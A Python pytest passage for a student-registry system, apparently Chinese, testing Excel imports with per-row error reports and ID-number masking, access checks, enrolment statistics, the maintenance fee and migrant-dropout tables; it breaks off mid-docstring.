"""Excel import (Arts 12, 17, 18) and the reports (Arts 5, 27, 28, the notice item 3):
every row accounted for, every bad cell reported by row and column, access respected."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import json
import re
import shlex
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest

from tests.conftest import (
    PROVINCE,
    Province,
    authority,
    five_four_province,
    make_id,
    rebuilt,
    school_actor,
)
from xueji import excel, statistics
from xueji.articles import Article
from xueji.cli import main
from xueji.errors import AccessDenied, ConcurrencyConflict, XuejiError
from xueji.lifecycle import StudentStatus
from xueji.masking import mask_ids
from xueji.model import InfoGroup, Photo, SchoolClass
from xueji.policy import ANHUI_2013, Param, Policy, Stage
from xueji.rules.changes import MigrantDropout
from xueji.storage.sql import SqlStore

D = dt.date
BORN = D(2020, 3, 1)
A = school_actor("A")
HEADER = ["学校代码", "班级", "年级", "姓名", "性别", "出生日期", "户籍地区码", "身份证号"]
HEADER += ["随迁子女", "照片采集日期", "照片摘要"]


def workbook(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def student_row(name: str, born: dt.date = BORN, **kw: object) -> list[object]:
    values: dict[str, object] = {
        "学校代码": "A",
        "班级": "A-1",
        "年级": 1,
        "姓名": name,
        "性别": "男",
        "出生日期": born,
        "户籍地区码": "340104",
        "身份证号": make_id(born),
        "随迁子女": "否",
        "照片采集日期": D(2026, 9, 1),
        "照片摘要": "sha256:x",
    }
    values.update(kw)
    return [values[h] for h in HEADER]


def bad_check_digit(born: dt.date) -> str:
    good = make_id(born)
    return good[:17] + ("0" if good[17] != "0" else "1")


def mixed(tmp_path: Path) -> tuple[Path, str]:
    bad_id = bad_check_digit(D(2020, 4, 1))
    rows = [
        student_row("好一"),  # row 2
        student_row("坏日期", 出生日期="2020-13-45"),  # row 3
        student_row("坏号码", 身份证号=bad_id),  # row 4
        student_row("无此校", 学校代码="ZZ"),  # row 5
        student_row("", 性别="女"),  # row 6: the name is missing
        student_row("好二", D(2020, 5, 6), 性别="女", 身份证号=make_id(D(2020, 5, 6), "F")),  # 7
    ]
    return workbook(tmp_path / "new.xlsx", HEADER, rows), bad_id


EXPECTED = {
    (3, "出生日期", "2020-13-45", "excel.bad_date"),
    (5, "学校代码", "ZZ", "not_found.school"),
    (6, "姓名", "", "excel.missing_value"),
}


def _check_errors(report: excel.ImportReport, bad_id: str) -> None:
    got = {(e.row, e.column, e.value, e.code) for e in report.errors}
    assert got == EXPECTED | {(4, "身份证号", excel.mask(bad_id), "id.checksum")}
    assert all(e.message_zh and e.message_en for e in report.errors)
    assert bad_id not in repr(report)


def _accounted(report: excel.ImportReport, rows: range) -> None:
    """Nothing is lost: every data row is applied, refused or held."""
    applied = [a.row for a in report.applied]
    parts = [*applied, *report.refused_rows, *report.held]
    assert sorted(parts) == list(rows)
    assert report.rows == len(rows)


def test_art12_import_partial_applies_the_good_rows(province: Province, tmp_path: Path) -> None:
    path, bad_id = mixed(tmp_path)
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    _check_errors(report, bad_id)
    assert report.committed
    assert [a.row for a in report.applied] == [2, 7]
    assert report.held == ()
    _accounted(report, range(2, 8))
    names = sorted(s.name for s in province.reg.students_of(A, "A"))
    assert names == ["好一", "好二"]
    assert all(s.status is StudentStatus.DRAFT for s in province.reg.students_of(A, "A"))


def test_art2_the_importer_places_grade_6_in_junior_under_a_five_four_profile(
    five_four: Policy, tmp_path: Path
) -> None:
    """The Excel importer decides rows under the profile in force: under 五四制 a
    grade-6 row is a junior student (of a junior school), and a primary school's
    grade-6 row is refused as a stage the school does not teach (Art 2)."""
    p = five_four_province(five_four)
    born = D(2015, 3, 1)
    junior = student_row("初一", born, 学校代码="J", 班级="J-6", 年级=6)
    path = workbook(tmp_path / "j.xlsx", HEADER, [junior])
    report = excel.import_students(p.reg, school_actor("J"), path, all_or_nothing=False)
    assert [a.row for a in report.applied] == [2]
    assert [s.stage for s in p.reg.students_of(PROVINCE, "J")] == [Stage.JUNIOR]
    primary = student_row("六年级", D(2015, 4, 1), 班级="A-6", 年级=6)
    path = workbook(tmp_path / "a.xlsx", HEADER, [primary])
    report = excel.import_students(p.reg, A, path, all_or_nothing=False)
    assert report.applied == ()
    assert "enrolment.stage_mismatch" in {e.code for e in report.errors}


def test_art12_import_all_or_nothing_writes_nothing(province: Province, tmp_path: Path) -> None:
    path, bad_id = mixed(tmp_path)
    log_before = len(province.log())
    report = excel.import_students(province.reg, A, path, all_or_nothing=True)
    _check_errors(report, bad_id)
    assert not report.committed
    assert report.applied == ()
    assert report.held == (2, 7)
    _accounted(report, range(2, 8))
    assert len(province.log()) == log_before
    assert province.reg.students_of(A, "A") == []


@pytest.mark.parametrize("all_or_nothing", [True, False])
def test_art12_an_import_in_slices_decides_as_one(
    province: Province, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, all_or_nothing: bool
) -> None:
    """Rows go to enroll_many a slice at a time (memory), in one unit of work: with
    two rows a slice, a refusal in the third slice still undoes the first, and the
    applied rows keep their sheet rows."""
    monkeypatch.setattr(excel, "IMPORT_SLICE", 2)
    path, bad_id = mixed(tmp_path)
    log_before = len(province.log())
    report = excel.import_students(province.reg, A, path, all_or_nothing=all_or_nothing)
    _check_errors(report, bad_id)
    _accounted(report, range(2, 8))
    assert report.committed is not all_or_nothing
    students = province.reg.students_of(A, "A")
    if all_or_nothing:
        assert (report.applied, report.held, students) == ((), (2, 7), [])
        assert len(province.log()) == log_before + 1  # the logged read just above
    else:
        assert [a.row for a in report.applied] == [2, 7]
        by_id = {s.id: s.name for s in students}
        assert [by_id[a.student] for a in report.applied] == ["好一", "好二"]


def test_art12_all_or_nothing_reports_rule_refusals_too(province: Province, tmp_path: Path) -> None:
    """An unreadable cell and a rule refusal in one file: both are reported."""
    rows = [student_row("好"), student_row("太小", D(2021, 3, 1)), student_row("坏", 年级="七")]
    path = workbook(tmp_path / "x.xlsx", HEADER, rows)
    report = excel.import_students(province.reg, A, path)
    assert {(e.row, e.code) for e in report.errors} == {
        (3, "enrolment.too_young"),
        (4, "excel.bad_grade"),
    }
    assert report.held == (2,)
    assert not report.committed
    assert province.reg.students_of(A, "A") == []


def test_an_id_number_typed_into_another_column_is_masked_in_the_report(
    province: Province, tmp_path: Path
) -> None:
    typed = make_id(D(2020, 6, 1))
    rows = [student_row("错列一", 户籍地区码=typed), student_row("错列二", 班级=typed)]
    path = workbook(tmp_path / "shift.xlsx", HEADER, rows)
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert len(report.errors) == 2
    shown = json.dumps(report.to_dict(), ensure_ascii=False)
    assert typed not in shown
    assert typed[:6] + "********" + typed[-4:] in shown


@pytest.mark.parametrize("tag", ["A1:K10", "A1:G101"])
def test_art12_a_stale_size_tag_loses_no_row_or_column(
    province: Province, tmp_path: Path, tag: str
) -> None:
    """Some exporters write a workbook's size tag (``<dimension>``) wrong; the rows and
    columns past it are read all the same (before: silently not imported)."""
    import re
    import zipfile

    rows = [student_row(f"学生{i}", 身份证号=make_id(BORN)) for i in range(30)]
    good = workbook(tmp_path / "good.xlsx", HEADER, rows)
    stale = tmp_path / "stale.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(stale, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{tag}"'.encode(), data
                )
                assert n == 1
            dst.writestr(item, data)
    report = excel.import_students(province.reg, A, stale, all_or_nothing=True)
    assert report.rows == 30
    assert report.ok, report.errors[:3]
    assert len(province.reg.students_of(A, "A")) == 30


def test_a_missing_workbook_is_one_bilingual_error(province: Province, tmp_path: Path) -> None:
    from xueji.errors import XuejiError

    with pytest.raises(XuejiError) as err:
        excel.import_students(province.reg, A, tmp_path / "nope.xlsx")
    assert err.value.code == "excel.not_found"
    assert "文件不存在" in err.value.message_zh


def test_a_missing_column_refuses_the_sheet(province: Province, tmp_path: Path) -> None:
    header = [h for h in HEADER if h != "出生日期"]
    rows = [[v for h, v in zip(HEADER, student_row("甲"), strict=True) if h != "出生日期"]]
    report = excel.import_students(province.reg, A, workbook(tmp_path / "m.xlsx", header, rows))
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (1, "出生日期", "excel.missing_column")
    ]
    assert (report.rows, report.committed, report.applied) == (1, False, ())
    assert province.reg.students_of(A, "A") == []


def test_an_id_typed_as_a_number_is_a_cell_error(tmp_path: Path) -> None:
    p = Province()
    row = student_row("数字号", 身份证号=float(make_id(D(2020, 3, 1))[:17] + "1"))
    report = excel.import_students(p.reg, A, workbook(tmp_path / "n.xlsx", HEADER, [row]))
    assert [(e.column, e.code) for e in report.errors] == [("身份证号", "excel.id_as_number")]


def test_the_report_is_written_as_a_workbook(tmp_path: Path) -> None:
    p = Province()
    path, bad_id = mixed(tmp_path)
    report = excel.import_students(p.reg, A, path, all_or_nothing=False)
    out = tmp_path / "report.xlsx"
    report.write_report(out)
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames == ["汇总 summary", "错误 errors", "已导入 applied", "未导入 held"]
    errors = list(wb["错误 errors"].iter_rows(values_only=True))
    assert errors[0][:4] == ("行 row", "列 column", "值 value", "规则 code")
    assert {(r[0], r[1], r[3]) for r in errors[1:]} == {
        (3, "出生日期", "excel.bad_date"),
        (4, "身份证号", "id.checksum"),
        (5, "学校代码", "not_found.school"),
        (6, "姓名", "excel.missing_value"),
    }
    assert [r[0] for r in list(wb["已导入 applied"].iter_rows(values_only=True))[1:]] == [2, 7]
    cells = [str(v) for ws in wb.worksheets for r in ws.iter_rows(values_only=True) for v in r]
    assert bad_id not in " ".join(cells)
    wb.close()


def test_art12_a_large_file_streams(tmp_path: Path) -> None:
    p = Province(store=SqlStore.sqlite(str(tmp_path / "big.sqlite3")))
    for k in range(50):
        p.reg.add_class(A, SchoolClass(f"A-1-{k}", "A", f"1年级{k}班", 1, "班主任", D(2026, 9, 1)))
    rows = []
    for i in range(2000):
        born = D(2020, 1, 1) + dt.timedelta(days=i % 240)
        rows.append(
            student_row(f"学生{i}", born, 班级=f"A-1-{i % 50}", 身份证号=make_id(born, n=i))
        )
    path = workbook(tmp_path / "big.xlsx", HEADER, rows)
    report = excel.import_students(p.reg, A, path)
    assert report.errors == ()
    assert report.ok
    assert len(report.applied) == report.rows == 2000
    assert len(p.reg.students_of(A, "A")) == 2000


# -- Art 17 information and Art 18 graduation ------------------------------------------------


INFO_HEADER = ["学校代码", "学籍号", "身份证号", "信息类别", "日期", "内容", "科目", "分数"]


def test_art17_info_import(province: Province, tmp_path: Path) -> None:
    s = province.register("A", 1)
    assert s.registry_number is not None
    rows: list[list[object]] = [
        ["A", s.registry_number, None, "成绩", D(2026, 9, 1), "期中考试", "数学", 95],  # 2
        ["A", None, s.id_number, "奖励", "2026-09-01", "三好学生", None, None],  # 3
        ["A", None, None, "奖励", "2026-09-01", "无人", None, None],  # 4: no key
        ["A", "G000", None, "奖励", "2026-09-01", "查无此人", None, None],  # 5
        ["A", s.registry_number, None, "家庭", "2026-09-01", "不由学校维护", None, None],  # 6
        ["A", s.registry_number, None, "处分", "2026-02-30", "坏日期", None, None],  # 7
    ]
    path = workbook(tmp_path / "info.xlsx", INFO_HEADER, rows)
    held = excel.import_info(province.reg, A, path)
    assert not held.committed
    assert held.held == (2, 3)
    assert province.reg.student(A, s.id).info == {}
    report = excel.import_info(province.reg, A, path, all_or_nothing=False)
    assert {(e.row, e.column, e.code) for e in report.errors} == {
        (4, "学籍号", "excel.missing_value"),
        (5, "学籍号", "excel.unknown_student"),
        (6, "信息类别", "excel.bad_group"),
        (7, "日期", "excel.bad_date"),
    }
    _accounted(report, range(2, 8))
    info = province.reg.student(A, s.id).info
    assert info[InfoGroup.EXAM][0].data == {"科目": "数学", "分数": "95"}
    assert info[InfoGroup.AWARD][0].text == "三好学生"
    assert [e.command for e in province.log()].count("add_info") == 2
    # the same file again: nothing recorded twice, and the report says so
    again = excel.import_info(province.reg, A, path, all_or_nothing=False)
    assert province.reg.student(A, s.id).info == info
    assert [e.command for e in province.log()].count("add_info") == 2
    assert all("already recorded" in a.note for a in again.applied)


def test_art17_info_rows_found_alike_reported_once_and_masked(
    province: Province, tmp_path: Path
) -> None:
    """An ID number with a lower-case x finds its student (as in a new student's row);
    an unknown school is its row's error, not the end of the import; the same entry
    twice in one file is recorded once and the second row says so; an ID number in
    an entry's text or in an extra column's header is masked in the report."""
    born = D(2020, 3, 1)
    x_id = next(i for n in range(499) if (i := make_id(born, n=n)).endswith("X"))
    s = province.register("A", 1, birth=born, id_number=x_id)
    other = make_id(D(2011, 5, 6))
    rows: list[list[object]] = [
        ["A", None, x_id.lower(), "奖励", "2026-09-01", f"证件 {other} 核对", None],  # 2
        ["NOPE", None, x_id, "奖励", "2026-09-01", "无此校", None],  # 3
        ["A", None, x_id, "成绩", "2026-09-01", "期中", "95"],  # 4
        ["A", None, x_id, "成绩", "2026-09-01", "期中", "95"],  # 5: the same as row 4
    ]
    header = ["学校代码", "学籍号", "身份证号", "信息类别", "日期", "内容", other]
    path = workbook(tmp_path / "info.xlsx", header, rows)
    report = excel.import_info(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (3, "学校代码", "not_found.school")
    ]
    assert [a.row for a in report.applied] == [2, 4, 5]
    _accounted(report, range(2, 6))
    info = province.reg.student(A, s.id).info
    assert len(info[InfoGroup.AWARD]) == len(info[InfoGroup.EXAM]) == 1
    assert "already recorded" not in report.applied[1].note
    assert "already recorded" in report.applied[2].note
    text = json.dumps(report.to_dict(), ensure_ascii=False)
    assert other not in text
    assert other[:6] in text  # masked, not dropped
    assert all(other not in c for c in report.ignored_columns)


def test_art18_a_row_refused_as_it_is_applied_is_refused_not_held(
    province: Province, tmp_path: Path
) -> None:
    six = province.register("A", 6)
    seven = province.register("A", 6)
    province.at(D(2027, 7, 1))
    rows = [
        ["A", six.registry_number, "毕业"],
        ["A", seven.registry_number, "毕业"],
        ["A", six.registry_number, "结业"],  # graduated by row 2 by then: refused
    ]
    path = workbook(tmp_path / "g.xlsx", GRAD_HEADER, rows)
    report = excel.import_graduation(province.reg, A, path)
    assert not report.committed
    assert [e.row for e in report.errors] == [4]
    assert report.held == (2, 3)  # each row in one place
    _accounted(report, range(2, 5))


def test_a_sheet_with_no_data_rows_is_ok_and_writes_nothing(
    province: Province, tmp_path: Path
) -> None:
    """A header alone: nothing to apply and nothing refused, alike for the three kinds
    (before: ok for new students, exit 1 for info and graduation); and an import
    whose every row is refused says it committed nothing."""
    for kind, header in (
        (excel.import_students, HEADER),
        (excel.import_info, INFO_HEADER),
        (excel.import_graduation, GRAD_HEADER),
    ):
        report = kind(province.reg, A, workbook(tmp_path / "h.xlsx", header, []))
        assert (report.rows, report.ok, report.committed) == (0, True, False), kind
    bad = workbook(tmp_path / "bad.xlsx", HEADER, [student_row("坏", 性别="X")])
    refused = excel.import_students(province.reg, A, bad, all_or_nothing=False)
    assert (refused.ok, refused.committed, refused.applied) == (False, False, ())


def test_a_sheet_damaged_past_its_first_rows_is_one_error_and_nothing_written(
    province: Province, tmp_path: Path
) -> None:
    import zipfile

    good = workbook(tmp_path / "good.xlsx", HEADER, [student_row(f"生{i}") for i in range(40)])
    damaged = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) * 2 // 3]  # the sheet's XML cut off
            dst.writestr(item, data)
    before = len(province.reg.students_of(A, "A"))
    with pytest.raises(excel.XuejiError) as err:
        excel.import_students(province.reg, A, damaged, all_or_nothing=False)
    assert err.value.code == "excel.unreadable"
    assert len(province.reg.students_of(A, "A")) == before


def test_art17_a_row_failing_at_apply_time_undoes_an_all_or_nothing_import(
    province: Province, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s = province.register("A", 1)
    t = province.register("A", 1)
    rows: list[list[object]] = [
        ["A", s.registry_number, None, "奖励", "2026-09-01", "三好学生", None, None],
        ["A", t.registry_number, None, "奖励", "2026-09-01", "优秀干部", None, None],
    ]
    path = workbook(tmp_path / "info.xlsx", INFO_HEADER, rows)
    real = province.reg.add_info
    calls = []

    def changed_meanwhile(actor: Any, student_id: str, *args: Any, **kw: Any) -> Any:
        calls.append(student_id)
        if student_id == t.id:  # another command changed this record after the check
            raise ConcurrencyConflict("storage.conflict", "已被修改", "was changed")
        return real(actor, student_id, *args, **kw)

    monkeypatch.setattr(province.reg, "add_info", changed_meanwhile)
    report = excel.import_info(province.reg, A, path)
    assert calls == [s.id, t.id]  # the first row was applied, then undone
    assert not report.committed
    assert report.applied == ()
    assert [(e.row, e.code) for e in report.errors] == [(3, "storage.conflict")]
    assert province.reg.student(PROVINCE, s.id).info == {}
    assert [e.command for e in province.log()].count("add_info") == 0  # (reads stay logged)
    partial = excel.import_info(province.reg, A, path, all_or_nothing=False)
    assert [a.row for a in partial.applied] == [2]
    assert [(e.row, e.code) for e in partial.errors] == [(3, "storage.conflict")]


GRAD_HEADER = ["学校代码", "学籍号", "毕结业"]


def test_art13_an_import_does_not_find_a_student_by_a_voided_number(
    province: Province, tmp_path: Path
) -> None:
    """Found by the session review: the graduation import found students by every
    number they had held, voided ones too, and graduated the wrong student when a
    voided number was another student's 学籍号 now."""
    shushan = authority("340104")
    born = D(2014, 3, 1)
    y, q = make_id(born), make_id(born)
    b = province.register("A", 6, birth=born, id_number=q, name="乙")
    a = province.register("A", 6, birth=born, id_number=y, name="甲")

    def correct(s_id: str, new: str) -> None:
        out = province.reg.request_correction(A, s_id, {"id_number": new}, "录错")
        assert out.request is not None
        assert province.reg.approve(shushan, out.request.id).allowed

    correct(a.id, make_id(born))  # 甲: y -> another number, G+y voided
    correct(b.id, y)  # 乙: q -> y, 乙 holds G+y now
    province.at(D(2027, 7, 1))
    rows = [["A", "G" + y, "毕业"]]
    report = excel.import_graduation(
        province.reg, A, workbook(tmp_path / "g.xlsx", GRAD_HEADER, rows)
    )
    assert report.committed
    assert province.reg.student(A, b.id).status is StudentStatus.GRADUATED
    assert province.reg.student(A, a.id).status is StudentStatus.REGISTERED


def test_art18_graduation_import(province: Province, tmp_path: Path) -> None:
    six = province.register("A", 6)
    done = province.register("A", 6)
    one = province.register("A", 1)
    senior = province.register("H", 12)
    province.at(D(2027, 7, 1))
    rows = [
        ["A", six.registry_number, "毕业"],
        ["A", done.registry_number, "结业"],
        ["A", one.registry_number, None],
        ["A", six.registry_number, "肄业"],
    ]
    report = excel.import_graduation(
        province.reg, A, workbook(tmp_path / "g.xlsx", GRAD_HEADER, rows), all_or_nothing=False
    )
    assert {(e.row, e.column, e.code) for e in report.errors} == {
        (4, "", "graduation.not_final_grade"),
        (5, "毕结业", "excel.bad_result"),
    }
    assert [a.row for a in report.applied] == [2, 3]
    assert province.reg.student(A, six.id).status is StudentStatus.GRADUATED
    assert province.reg.student(A, done.id).status is StudentStatus.COMPLETED
    h = school_actor("H")
    path = workbook(tmp_path / "h.xlsx", GRAD_HEADER, [["H", senior.registry_number, "毕业"]])
    senior_report = excel.import_graduation(province.reg, h, path)
    assert senior_report.ok
    assert "submitted for approval" in senior_report.applied[0].note
    assert province.reg.student(h, senior.id).status is StudentStatus.REGISTERED
    # the file again: the same request, named (before: "毕业 (registered)", as if done),
    # and present, as a row that wrote nothing (found by the documentation review: it
    # was counted applied, as the first import's)
    opened = [e.command for e in province.log()].count("open_graduation")
    again = excel.import_graduation(province.reg, h, path)
    assert again.applied[0].note == "已存在，" + senior_report.applied[0].note
    assert [e.command for e in province.log()].count("open_graduation") == opened == 1


def test_art28_import_outside_jurisdiction_is_denied(tmp_path: Path) -> None:
    p = Province()
    path = workbook(tmp_path / "w.xlsx", HEADER, [student_row("甲")])
    with pytest.raises(AccessDenied):
        excel.import_students(p.reg, school_actor("W"), path)
    assert p.reg.students_of(A, "A") == []


# -- statistics, the fee, Art 27 and the national export ---------------------------------------


def small(p: Province) -> None:
    for _ in range(3):
        p.register("A", 1)
    p.register("A", 2)
    p.register("B", 1)
    p.register("W", 1)
    p.register("H", 10)
    p.enroll("A", 1)  # a draft: counted in statistics, not for the fee


def test_art28_statistics_by_unit_stage_grade_status(province: Province) -> None:
    small(province)
    stats = province.reg.statistics(PROVINCE)
    assert stats.total() == 8
    assert stats.total(status=StudentStatus.REGISTERED) == 7
    assert stats.total(school="A", grade=1) == 4
    assert stats.total(county="340104") == 6
    assert stats.total(city="3401") == 7
    assert stats.total(stage=Stage.SENIOR) == 1
    assert stats.by("city") == {("3401",): 7, ("3402",): 1}
    county = province.reg.statistics(authority("340104"))
    assert (county.total(), {r.school for r in county.rows}) == (6, {"A", "B"})
    assert province.reg.statistics(A).total() == 5
    assert province.reg.statistics(authority("3402")).total() == 1
    table = statistics.stats_table(stats)  # the stage in Chinese, beside Chinese statuses
    assert {row[3] for row in table.rows} == {"小学", "高中"}


def _flagged(p: Province) -> None:
    """:func:`small`, with 随迁子女 and 残疾学生 among the students."""
    small(p)
    p.register("A", 1, migrant=True)
    p.register("A", 1, migrant=True, special_needs=True)
    p.register("B", 1, special_needs=True)
    p.enroll("A", 1, migrant=True)  # a draft: counted in its own row


def test_art28_statistics_count_migrant_and_special_needs_students(tmp_path: Path) -> None:
    """The goal: a county reports its migrant children (随迁子女; Art 27(3) singles out
    their dropouts) and its special-needs students (残疾学生) in the Art 28
    statistics, each row and the totals, counted by the store (``tally_flags``: one
    GROUP BY, no record read). The memory and SQLite stores agree."""
    counted = []
    for store in (None, SqlStore.sqlite(str(tmp_path / "flags.sqlite3"))):
        p = Province(store=store)
        _flagged(p)
        stats = p.reg.statistics(PROVINCE)
        assert stats.flags_counted
        assert (stats.total(), stats.flagged("migrant"), stats.flagged("special_needs")) == (
            12,
            3,
            2,
        )
        assert stats.flagged("migrant", status=StudentStatus.REGISTERED) == 2
        assert stats.flagged("migrant", school="A", status=StudentStatus.DRAFT) == 1
        assert stats.flagged("special_needs", county="340104") == 2
        county = p.reg.statistics(authority("340104"))
        assert (county.flagged("migrant"), county.flagged("special_needs")) == (3, 2)
        table = statistics.stats_table(stats)
        assert table.header[-2:] == ("随迁子女 migrant", "残疾学生 special needs")
        row = next(r for r in table.rows if r[2] == "A" and r[5] == "在籍")
        assert row[-3:] == (5, 2, 1)
        assert not statistics.warnings_of(table)
        counted.append(stats.rows)
    assert counted[0] == counted[1]


def test_art28_statistics_leave_the_flags_blank_on_a_store_without_tally_flags(
    province: Province,
) -> None:
    """A host store without the optional ``students.tally_flags`` keeps working: the
    statistics count the students as before and leave the two counts blank (None),
    and the report says why; it does not read every record to count them."""
    _flagged(province)

    class Plain:
        """The memory store's students without ``tally_flags``."""

        def __init__(self, base: Any) -> None:
            self.base = base

        def __getattr__(self, name: str) -> Any:
            if name == "tally_flags":
                raise AttributeError(name)
            if name in ("all", "get_many", "by_school"):
                raise AssertionError(f"a record read: {name}")
            return getattr(self.base, name)

    class Uow:
        def __init__(self, base: Any) -> None:
            self.base = base
            self.students = Plain(base.students)

        def __getattr__(self, name: str) -> Any:
            return getattr(self.base, name)

    class Store:
        def __init__(self, base: Any) -> None:
            self.base = base

        @contextlib.contextmanager
        def unit_of_work(self) -> Any:
            with self.base.unit_of_work() as uow:
                yield Uow(uow)

    province.reg.store = Store(province.store)
    stats = province.reg.statistics(PROVINCE)
    assert stats.total() == 12
    assert not stats.flags_counted
    assert stats.flagged("migrant") is None
    assert {(r.migrant, r.special_needs) for r in stats.rows} == {(None, None)}
    table = statistics.stats_table(stats)
    assert {row[-2:] for row in table.rows} == {(None, None)}
    (warning,) = statistics.warnings_of(table)
    assert "tally_flags" in warning
    assert "留空" in warning


def test_art28_statistics_by_sorts_grades_by_number() -> None:
    """Found by the review: ``Statistics.by`` sorted its keys as text, grade 10 before
    grade 2. A grade sorts by its number, within each county of a two-field key."""
    rows = tuple(
        statistics.StatRow(
            "3401",
            county,
            "H",
            Stage.SENIOR if g >= 10 else Stage.PRIMARY,
            g,
            StudentStatus.REGISTERED,
            1,
        )
        for county in ("340104", "340102")
        for g in (1, 2, 9, 10, 11, 12)
    )
    stats = statistics.Statistics(D(2026, 10, 15), "34", rows)
    assert list(stats.by("grade")) == [(1,), (2,), (9,), (10,), (11,), (12,)]
    assert list(stats.by("county", "grade"))[:7] == [
        ("340102", 1),
        ("340102", 2),
        ("340102", 9),
        ("340102", 10),
        ("340102", 11),
        ("340102", 12),
        ("340104", 1),
    ]


def test_notice_item3_maintenance_fee(province: Province) -> None:
    small(province)
    province.at(D(2026, 10, 15))
    fee = statistics.maintenance_fee(province.reg.statistics(PROVINCE), province.reg.policy())
    assert fee.rate == Decimal("0.5")
    assert fee.warnings == ()
    assert (fee.total_students, fee.total_fee) == (7, Decimal("3.5"))
    assert fee.by_payer() == {
        "340104": (5, Decimal("2.5")),
        "340202": (1, Decimal("0.5")),
        "3401": (1, Decimal("0.5")),
    }
    assert "通知第三项" in str(fee.article)
    province.at(D(2026, 11, 2))
    late = statistics.maintenance_fee(province.reg.statistics(PROVINCE), province.reg.policy())
    assert late.warnings


def test_notice_item3_the_october_warning_names_the_instrument_it_comes_from() -> None:
    """Found by the reports review: the fee's warning quoted Anhui's notice (通知第三项)
    under any profile, right under that profile's own article for the rate. It names
    the instrument the October rule comes from, marked inherited under a profile of
    another instrument (which can set the rate, not the month)."""
    own = Article("某教基〔2027〕1号", 9)
    other = attrs.evolve(
        ANHUI_2013,
        code="other-2027",
        name="某省办法",
        instrument="某教基〔2027〕1号",
        maintenance_fee_per_student=Param(Decimal("1.0"), own),
    )
    march = statistics.Statistics(D(2027, 3, 15), "34", ())
    (warning,) = statistics.maintenance_fee(march, other).warnings
    assert "皖教基〔2013〕20号（通知第三项；沿用 anhui-2013）" in warning
    assert "inherited from anhui-2013" in warning
    table = statistics.maintenance_fee(march, other).table()
    assert any(str(own) in n for n in table.notes)  # the rate's article: the profile's own
    (warning,) = statistics.maintenance_fee(march, ANHUI_2013).warnings
    assert "皖教基〔2013〕20号（通知第三项）" in warning
    assert "沿用" not in warning
    assert "inherited" not in warning
    october = statistics.Statistics(D(2027, 10, 15), "34", ())
    assert statistics.maintenance_fee(october, other).warnings == ()


@pytest.mark.parametrize(
    ("article", "en", "not_en"),
    [
        (Article("苏教基〔2014〕5号", 0, note="通知第二项"), "item 2", "item 3"),
        (Article("皖教基〔2013〕20号", 0, note="通知第三项"), "item 3", "item 2"),
        (Article("某教基〔2027〕1号", 0, note="附件二"), "附件二", "item"),
        (Article("某教基〔2027〕1号", 9), "Art 9", "item"),
    ],
)
def test_notice_item3_the_fee_s_english_gloss_is_its_article_s(
    article: Article, en: str, not_en: str
) -> None:
    """Found by the profile review: the fee report's English said "the notice
    accompanying <instrument> item 3" whatever the profile's article said (江苏's
    通知第二项 was glossed "item 3"). The gloss is built from the article."""
    policy = attrs.evolve(
        ANHUI_2013,
        code="js-2014",
        name="江苏",
        instrument=article.instrument,
        maintenance_fee_per_student=Param(Decimal("1.2"), article),
    )
    october = statistics.Statistics(D(2027, 10, 15), "32", ())
    (cited,) = [n for n in statistics.maintenance_fee(october, policy).table().notes if "依据" in n]
    assert str(article) in cited
    english = cited.split(f"{article} ", 1)[1]
    assert en in english
    assert not_en not in english


def test_art27_migrant_dropouts_table() -> None:
    p = Province()
    s = p.register("A", 3, migrant=True, hukou_region="341203")
    out = p.reg.record_dropout(A, s.id, "辍学")
    assert out.request is not None
    p.reg.approve(authority("340104"), out.request.id)
    summary = p.reg.migrant_dropouts(authority("3401"), start=D(2026, 9, 1), end=D(2027, 1, 31))
    table = statistics.migrants_table(
        summary, start=D(2026, 9, 1), end=D(2027, 1, 31), scope="3401", taken_on=p.reg.today()
    )
    assert [row[:3] for row in table.rows] == [("341203", s.id, s.name)]
    assert "学期 term: 2026-09-01 至 2027-01-31 (2026-09-01 to 2027-01-31)" in table.notes


def test_art27_a_migrant_summary_taken_before_the_term_s_end_says_it_is_not_final() -> None:
    """Found by the reports review: a summary taken before the term's end wrote
    本学期无随迁子女辍学 (none in the term) as if final. Taken before the end, it
    warns that the term is not over, and says no "none in the term"; taken on the
    last day or later, it says it."""
    term = {"start": D(2026, 9, 1), "end": D(2027, 1, 31)}
    final = "本学期无随迁子女辍学 (no migrant child dropped out in the term)"
    for taken_on, over in ((D(2026, 11, 2), False), (D(2027, 1, 31), True), (D(2027, 2, 3), True)):
        table = statistics.migrants_table({}, **term, scope="340104", taken_on=taken_on)
        warned = [n for n in table.notes if n.startswith("注意 warning:")]
        assert (final in table.notes) is over, (taken_on, table.notes)
        assert bool(warned) is not over, (taken_on, table.notes)
        if warned:
            assert "2027-01-31" in warned[0]
            assert taken_on.isoformat() in warned[0]
            assert "not over" in warned[0]
    s = Province().register("A", 3, migrant=True, hukou_region="341203")
    line = MigrantDropout(s.id, s.name, "A", 3, "341203", D(2026, 10, 12), D(2026, 10, 9))
    early = statistics.migrants_table(
        {"341203": (line,)}, **term, scope="340104", taken_on=D(2026, 11, 2)
    )
    assert any(n.startswith("注意 warning:") for n in early.notes)  # the list may grow


def test_notice_item3_the_fee_workbook_holds_numbers(province: Province, tmp_path: Path) -> None:
    """The rate and the fees are number cells (they can be summed), exact in a CSV.

    Found by the reports review: the per-payer ``合计 total`` rows sat in the school
    rows' columns as numbers, so summing the fee column doubled the figure, and there
    was no total for the scope (a city read its city-run schools' ``合计`` as its
    own). The school rows end at a blank row; the subtotals by payer and the scope's
